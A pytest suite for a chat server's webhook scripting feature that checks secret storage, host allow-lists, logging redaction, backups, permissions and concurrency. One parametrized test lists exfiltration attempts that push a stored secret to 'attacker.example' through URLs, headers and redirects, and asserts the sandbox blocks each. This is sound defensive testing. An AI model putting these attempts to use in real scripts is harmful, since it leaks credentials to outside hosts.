"""Secrets and stores over HTTP, and a script that uses both: the whole way, with an attacker looking everywhere."""

import json
import sqlite3
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, closing, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import httpx2
import pytest
from structlog.testing import capture_logs

from tests.api.servers import Running, running

VALUE = "correct-horse-battery-staple"
SCRIPT = """
from hookcell import http, log, secrets, store

def process_incoming(request):
    asked = request["content"]
    if asked.get("fail"):
        store.set("failed", True)
        raise ValueError(secrets.ref("api"))
    token = secrets.ref("api")
    print("sent with", token)
    log.warning("asking", host=asked["url"])
    try:
        answer = http.get(asked["url"], headers={"Authorization": f"Bearer {token}", "X-Typed": asked.get("typed", "")})
    except http.Error as error:
        return {"content": {"text": f"{error.reason}: {error}"}}
    return {"content": {"text": f"{store.add('count')}: {answer.text}"}}
"""


class Echo(BaseHTTPRequestHandler):
    """Answers with the headers it was sent."""

    seen: list[dict[str, str]] = []

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.do_GET()

    def do_GET(self) -> None:
        if self.path == "/elsewhere":
            self.send_response(302)
            self.send_header("Location", "http://" + self.headers["Host"].replace("127.0.0.1", "localhost"))
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.seen.append({name.lower(): value for name, value in self.headers.items()})
        body = json.dumps(self.seen[-1]).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Nothing on standard error."""


@contextmanager
def echoing() -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Echo) as server:
        thread = Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Running, str]]:
    with ExitStack() as stack:
        url = stack.enter_context(echoing())
        data = tmp_path_factory.mktemp("data")
        yield stack.enter_context(running(data, egress_allow=("127.0.0.1",), script_log=("logged",))), url


def post(client: httpx2.Client, endpoint: str, status: int = 200, /, **body: object) -> Any:
    answer = client.post(f"/api/v1/{endpoint}", json=body)
    assert answer.status_code == status, answer.text
    return answer.json()


def get(client: httpx2.Client, endpoint: str, status: int = 200, /, **query: str) -> Any:
    answer = client.get(f"/api/v1/{endpoint}", params=query)
    assert answer.status_code == status, answer.text
    return answer.json()


def integrate(server: Running, **fields: object) -> dict[str, Any]:
    body = {
        "type": "webhook-incoming",
        "username": "rocket.cat",
        "channel": "#general",
        "enabled": True,
        "name": "asks",
    }
    record = post(server.admin, "integrations.create", **{**body, "scriptEnabled": True, "script": SCRIPT, **fields})
    assert "scriptError" not in record["integration"]
    return dict(record["integration"])


def call(server: Running, record: dict[str, Any], **content: object) -> httpx2.Response:
    return server.client.post(f"/hooks/{record['_id']}/{record['token']}", json=content)


def last_text(server: Running) -> str:
    return str(get(server.admin, "channels.messages", roomId="GENERAL")["messages"][0]["msg"])


def test_what_a_hooks_script_calls_is_told_how_many_integrations_led_there(place: tuple[Running, str]) -> None:
    server, url = place
    script = SCRIPT.replace('"X-Typed"', '"X-Hookcell-Depth": "0", "X-Typed"').replace('secrets.ref("api")', '"none"')
    record = integrate(server, name="deep", script=script)
    Echo.seen.clear()
    for depth in ("", "1", "009", "1234", "9" * 5_000, "0" * 5_000, "-1", "2, 2"):
        headers = {"X-Hookcell-Depth": depth} if depth else {}
        path = f"/hooks/{record['_id']}/{record['token']}"
        assert server.client.post(path, json={"url": url}, headers=headers).status_code == 200
    assert [seen["x-hookcell-depth"] for seen in Echo.seen] == ["1", "2", "10", "11", "11", "1", "1", "1"]


def test_under_strict_nobody_is_told_of_a_depth(tmp_path: Path, place: tuple[Running, str]) -> None:
    _, url = place
    script = SCRIPT.replace('"X-Typed"', '"X-Hookcell-Depth": "0", "X-Typed"').replace('secrets.ref("api")', '"none"')
    with running(tmp_path, egress_allow=("127.0.0.1",), strict_compat=True) as server:
        Echo.seen.clear()
        assert call(server, integrate(server, name="strict", script=script), url=url).status_code == 200
    assert "x-hookcell-depth" not in Echo.seen[0]


def test_a_secret_reaches_its_host_and_is_read_nowhere(place: tuple[Running, str], caplog: Any) -> None:
    server, url = place
    record = integrate(server, name="logged")
    id = record["_id"]
    set_ = post(server.admin, "integrations.setSecret", integrationId=id, name="api", value=VALUE, hosts=["127.0.0.1"])
    assert set_["secret"].items() >= {"name": "api", "hosts": ["127.0.0.1"], "uses": ["header"]}.items()
    Echo.seen.clear()
    answer = call(server, record, url=url, typed="hookcellref" + "0" * 32)
    assert answer.status_code == 200, answer.text
    assert Echo.seen[0]["authorization"] == f"Bearer {VALUE}"
    assert Echo.seen[0]["x-typed"] == "hookcellref" + "0" * 32
    assert last_text(server).startswith("1: ") and '"Bearer ***"' in last_text(server)
    assert call(server, record, fail=True).json()["error"] == "error-running-script"
    told = [
        get(server.admin, "integrations.history", id=id),
        get(server.admin, "integrations.get", integrationId=id),
        get(server.admin, "integrations.list"),
        get(server.admin, "integrations.listSecrets", integrationId=id),
        get(server.admin, "channels.messages", roomId="GENERAL"),
        answer.json(),
        set_,
        caplog.text,
    ]
    assert VALUE not in json.dumps(told)
    history = told[0]["history"]
    assert "hookcellref" not in json.dumps(history)
    (run,) = [run for run in history if run["state"] == "finished"]
    (step,) = [step for step in run["steps"] if "services" in step]
    assert step["services"]["secrets"] == ["api"] and step["services"]["store"] == {"reads": 0, "writes": 1}
    assert [(one["method"], one["status"]) for one in step["services"]["http"]] == [("GET", 200)]
    assert {line["level"]: line["text"] for line in run["log"]} == {
        "print": "sent with ***",
        "warning": f"asking host={url}",
    }
    for file in server.engine.settings.data.iterdir():
        assert VALUE.encode() not in file.read_bytes(), file


def test_a_run_that_fails_leaves_nothing_and_what_is_kept_can_be_seen_and_cleared(place: tuple[Running, str]) -> None:
    server, url = place
    record = integrate(server)
    id = record["_id"]
    post(server.admin, "integrations.setSecret", integrationId=id, name="api", value=VALUE, hosts=["127.0.0.1"])
    assert call(server, record, fail=True).status_code == 400
    for _ in range(2):
        assert call(server, record, url=url).status_code == 200
    kept = get(server.admin, "integrations.store", integrationId=id)
    assert [(value["key"], value["value"]) for value in kept["values"]] == [("count", 2)] and kept["bytes"] == 6
    assert post(server.admin, "integrations.store.clear", integrationId=id, key="other")["count"] == 0
    assert post(server.admin, "integrations.store.clear", integrationId=id)["count"] == 1
    assert get(server.admin, "integrations.store", integrationId=id)["values"] == []


@pytest.mark.parametrize(
    "attempt",
    [
        "http.get(url + secret)",
        "http.get('http://' + secret + '.attacker.example/')",
        "http.get('http://' + secret.upper() + '.attacker.example/')",
        "http.get('http://attacker.example/' + secret)",
        "http.get('http://attacker.example/?' + secret)",
        "http.get(url.replace('://', '://me:' + secret + '@'))",
        "http.get(url, headers={secret: 'x'})",
        "http.get(url, headers={'Host': secret})",
        "http.get(url.replace('127.0.0.1', 'localhost'), headers={'X': secret})",
        "http.get(url + 'elsewhere', headers={'X': secret})",
        "http.request(secret, url)",
        "{}[secret]",
    ],
)
def test_nothing_that_a_script_writes_brings_the_value_anywhere_else(place: tuple[Running, str], attempt: str) -> None:
    server, url = place
    script = (
        "from hookcell import http, secrets\ndef process_incoming(request):\n"
        f"    url, secret = request['content']['url'], secrets.ref('api')\n    return {attempt}.text\n"
    )
    record = integrate(server, script=script)
    body = {"integrationId": record["_id"], "name": "api", "value": VALUE, "hosts": ["127.0.0.1"]}
    post(server.admin, "integrations.setSecret", **body, uses=["header", "query", "body"])
    Echo.seen.clear()
    answer = call(server, record, url=url)
    assert answer.json() == {"success": False, "error": "error-running-script"}
    assert not Echo.seen and VALUE not in json.dumps(get(server.admin, "integrations.history", id=record["_id"]))


def test_a_backup_has_what_scripts_keep_until_its_time_and_no_secret_to_read(
    place: tuple[Running, str], tmp_path: Path
) -> None:
    server, _ = place
    script = (
        "from hookcell import store\ndef process_incoming(request):\n"
        "    store.set('short', 1, ttl=0.2)\n    store.set('long', [request['content']], ttl=60)\n"
    )
    record = integrate(server, script=script)
    id = record["_id"]
    post(server.admin, "integrations.setSecret", integrationId=id, name="api", value=VALUE, hosts=["127.0.0.1"])
    assert call(server, record, n=1).status_code == 200
    time.sleep(0.2)
    (kept,) = get(server.admin, "integrations.store", integrationId=id)["values"]
    assert (kept["key"], kept["value"]) == ("long", [{"n": 1}]) and kept["expiresAt"]
    copy = tmp_path / "copy.db"
    server.run(server.engine.store.backup(copy))
    with closing(sqlite3.connect(copy)) as database:
        rows = database.execute("SELECT value FROM stored_values WHERE integration_id = ? AND key = 'long'", (id,))
        assert rows.fetchall() == [('[{"n":1}]',)]
        assert database.execute("SELECT name FROM secrets WHERE scope = ?", (id,)).fetchall() == [("api",)]
    assert VALUE.encode() not in copy.read_bytes()


def test_another_host_is_refused_with_what_to_add(place: tuple[Running, str]) -> None:
    server, url = place
    record = integrate(server)
    body = {"integrationId": record["_id"], "name": "api", "value": VALUE, "hosts": ["api.example.com"]}
    post(server.admin, "integrations.setSecret", **body)
    call(server, record, url=url)
    assert last_text(server) == (
        "refused-by-policy: the secret api may not be sent to 127.0.0.1; to allow it, add 127.0.0.1 to its hosts"
    )


def test_everyones_secret_is_for_whoever_manages_all_and_an_own_one_wins(place: tuple[Running, str]) -> None:
    server, url = place
    record = integrate(server)
    shared = {"integrationId": "*", "name": "api", "value": "everyones-value", "hosts": ["127.0.0.1"]}
    post(server.admin, "integrations.setSecret", **shared)
    Echo.seen.clear()
    call(server, record, url=url)
    post(server.admin, "integrations.setSecret", **{**shared, "integrationId": record["_id"], "value": VALUE})
    call(server, record, url=url)
    assert [seen["authorization"] for seen in Echo.seen] == ["Bearer everyones-value", f"Bearer {VALUE}"]
    listed = get(server.admin, "integrations.listSecrets", integrationId=record["_id"])["secrets"]
    assert [(secret["integrationId"], secret["name"]) for secret in listed] == [("*", "api"), (record["_id"], "api")]
    post(server.admin, "integrations.removeSecret", integrationId="*", name="api")
    gone = post(server.admin, "integrations.removeSecret", 400, integrationId="*", name="api")
    assert gone["errorType"] == "error-invalid-secret"


def test_who_manages_only_their_own_touches_no_other(place: tuple[Running, str]) -> None:
    server, _ = place
    record = integrate(server)
    own = {"_id": "manage-own-incoming-integrations", "roles": ["admin", "user"]}
    post(server.admin, "permissions.update", permissions=[own])
    stranger = server.user("stranger")
    secret = {"name": "api", "value": VALUE, "hosts": ["127.0.0.1"]}
    for id in (record["_id"], "*"):
        refused = post(stranger, "integrations.setSecret", 400, integrationId=id, **secret)
        assert refused["error"] == "not-authorized"
        assert (
            post(stranger, "integrations.removeSecret", 400, integrationId=id, name="api")["error"] == "not-authorized"
        )
    assert get(stranger, "integrations.store", 400, integrationId=record["_id"])["error"] == "not-authorized"
    assert post(stranger, "integrations.store.clear", 400, integrationId=record["_id"])["error"] == "not-authorized"
    unknown = get(stranger, "integrations.store", 400, integrationId="nothing")
    assert unknown["error"] == "The integration does not exists."


def test_a_wrong_secret_is_told_without_its_value(place: tuple[Running, str]) -> None:
    server, _ = place
    body = {"integrationId": "*", "name": "api", "value": VALUE, "hosts": ["http://api.example.com/"]}
    refused = post(server.admin, "integrations.setSecret", 400, **body)
    assert refused["errorType"] == "error-invalid-secret" and "write example.com" in refused["error"]
    assert VALUE not in json.dumps(refused)


def test_secrets_and_values_go_with_their_integration(place: tuple[Running, str]) -> None:
    server, url = place
    record = integrate(server)
    id = record["_id"]
    post(server.admin, "integrations.setSecret", integrationId=id, name="api", value=VALUE, hosts=["127.0.0.1"])
    call(server, record, url=url)
    post(server.admin, "integrations.remove", type="webhook-incoming", integrationId=id)
    assert server.do(_rows, id) == (0, 0)


def _rows(connection: Any, id: str) -> tuple[int, int]:
    from engine.store.secrets import secrets_of
    from engine.store.values import list_values

    return len(secrets_of(connection, [id])), len(list_values(connection, id, 0))


def test_the_key_is_beside_the_database_for_its_owner_only(place: tuple[Running, str]) -> None:
    server, _ = place
    # made with the first secret
    id = integrate(server)["_id"]
    post(server.admin, "integrations.setSecret", integrationId=id, name="api", value=VALUE, hosts=["127.0.0.1"])
    file = Path(server.engine.settings.data) / "secret.key"
    assert file.stat().st_mode & 0o777 == 0o600


def test_fifty_webhooks_at_once_lose_nothing(place: tuple[Running, str]) -> None:
    server, _ = place
    script = (
        "from hookcell import store\n"
        "def process_incoming(request):\n"
        "    return {'response': {'count': store.add('count'), 'length': store.append('all', request['content']['n'])}}\n"
    )
    record = integrate(server, script=script)

    def send(number: int) -> dict[str, Any]:
        for _ in range(100):
            answer = call(server, record, n=number)
            if answer.status_code != 503:
                break
            # no cell was free in time: nothing was run, and the sender is asked to come again
            time.sleep(0.05)
        assert answer.status_code == 200, answer.text
        return dict(answer.json())

    with ThreadPoolExecutor(50) as senders:
        answers = list(senders.map(send, range(50)))
    assert sorted(answer["count"] for answer in answers) == [*range(1, 51)]
    assert all(answer["count"] == answer["length"] for answer in answers)
    kept = {
        value["key"]: value["value"]
        for value in get(server.admin, "integrations.store", integrationId=record["_id"])["values"]
    }
    assert kept["count"] == 50 and sorted(kept["all"]) == [*range(50)]


def test_a_replay_keeps_away_from_the_store_and_changes_nothing_elsewhere(place: tuple[Running, str]) -> None:
    server, url = place
    script = (
        "from hookcell import http, store\n"
        "def process_incoming(request):\n"
        "    try:\n        http.post(request['content']['url'])\n"
        "    except http.Error as error:\n        print(error)\n"
        "    return f\"{store.add('count')} {http.get(request['content']['url']).status_code}\"\n"
    )
    record = integrate(server, script=script)
    id = record["_id"]
    # a replay counts from nothing: what it wrote would be another number than what is there
    for _ in range(2):
        assert call(server, record, url=url).status_code == 200
    run = get(server.admin, "integrations.history", id=id)["history"][0]["run"]
    for posts, log in ((False, ["a replay that posts nothing sends no POST"]), (True, [])):
        replayed = post(server.admin, "integrations.replayIncoming", integrationId=id, historyId=run, post=posts)
        assert replayed["success"] is True
        newest = get(server.admin, "integrations.history", id=id)["history"][0]
        assert newest["resultMessage"][0]["message"]["msg"] == "1 200"
        assert [line["text"] for line in newest["log"]] == log
        kept = get(server.admin, "integrations.store", integrationId=id)["values"]
        assert [(value["key"], value["value"]) for value in kept] == [("count", 2)]


def test_the_servers_log_has_what_scripts_say_where_it_was_asked_for(place: tuple[Running, str]) -> None:
    server, _ = place
    script = "from hookcell import log\ndef process_incoming(request):\n    log.info('heard', name=request['content']['a'])\n"
    with capture_logs() as logged:
        for name in ("logged", "not logged"):
            call(server, integrate(server, name=name, script=script), a=name)
    assert [line["event"] for line in logged if "hook" in line] == ["heard name=logged"]


def test_a_server_that_lost_its_key_says_what_to_do_and_takes_the_secret_again(tmp_path: Path) -> None:
    script = "from hookcell import secrets\ndef process_incoming(r):\n    return secrets.ref('api') and 'known'\n"
    with running(tmp_path) as server:
        record = integrate(server, script=script)
        secret = {"integrationId": record["_id"], "name": "api", "value": VALUE, "hosts": ["127.0.0.1"]}
        post(server.admin, "integrations.setSecret", **secret)
        assert call(server, record).status_code == 200
    (tmp_path / "secret.key").unlink()
    with running(tmp_path) as server:
        (listed,) = get(server.admin, "integrations.listSecrets", integrationId=record["_id"])["secrets"]
        assert (listed["name"], listed["readable"]) == ("api", False)
        assert call(server, record).json() == {"success": False, "error": "error-running-script"}
        (run, *_) = get(server.admin, "integrations.history", id=record["_id"])["history"]
        assert "give the server the one it was set with (secret.key in its data folder" in run["errorStack"]
        assert post(server.admin, "integrations.setSecret", **secret)["secret"]["name"] == "api"
        assert call(server, record).status_code == 200
        (listed,) = get(server.admin, "integrations.listSecrets", integrationId=record["_id"])["secrets"]
        assert "readable" not in listed
